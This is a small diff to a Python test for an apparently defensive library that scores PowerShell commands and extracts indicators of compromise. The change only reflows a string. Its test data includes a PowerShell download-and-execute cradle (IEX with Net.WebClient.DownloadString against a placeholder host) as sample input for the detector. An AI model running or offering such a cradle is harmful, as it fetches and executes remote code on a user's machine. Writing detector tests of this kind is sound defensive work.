@@ -22,7 +22,8 @@ def test_connect_reads_the_profile_and_registers_the_functions(
     con = vigil.connect("dev")
     con.sql(
         "create table events as select * from (values "
-        "('IEX (New-Object Net.WebClient).DownloadString(''http://x'')'), ('Get-Date'), (NULL)) t(cmd)"
+        "('IEX (New-Object Net.WebClient).DownloadString(''http://x'')'), "
+        "('Get-Date'), (NULL)) t(cmd)"
     )
     rows = con.sql(
         "select cmd, vigil_powershell_score(cmd) s, vigil_powershell_iocs(cmd) i from events"
